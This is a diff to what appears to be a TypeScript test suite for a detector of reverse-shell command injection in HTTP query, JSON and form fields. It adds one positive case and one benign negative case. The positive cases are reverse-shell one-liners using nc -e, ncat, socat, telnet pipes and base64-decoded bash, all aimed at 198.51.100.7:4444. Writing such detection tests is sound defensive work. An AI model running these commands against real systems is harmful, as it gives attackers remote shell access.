@@ -696,6 +696,7 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["query", "x=" + encodeURIComponent("nc -e /bin/sh 198.51.100.7 4444")],
   ["body:json", JSON.stringify({ host: "ncat 198.51.100.7 4444 --sh-exec 'bash -i'" })],
   ["query", "x=" + encodeURIComponent("busybox nc 198.51.100.7 4444 -e sh")],
+  ["body:form", "c=" + encodeURIComponent("nc.exe -e cmd.exe 198.51.100.7 4444")],
   ["body:form", "c=" + encodeURIComponent("socat tcp-connect:198.51.100.7:4444 exec:sh,pty")],
   ["query", "x=" + encodeURIComponent("telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445")],
   ["query", "x=" + encodeURIComponent("echo YmFzaCAtaQ== | base64 -d | bash")],
@@ -728,6 +729,7 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["query", "q=" + encodeURIComponent("telnet mail.example.com 25")],
   ["query", "q=" + encodeURIComponent("echo test | grep t")],
   ["query", "q=" + encodeURIComponent("netcat -l 1234")],
+  ["body:json", JSON.stringify({ text: "nc -e is disabled in Debian's netcat" })],
   ["body:json", JSON.stringify({ text: "business plan -e draft | shared" })],
 ];
 
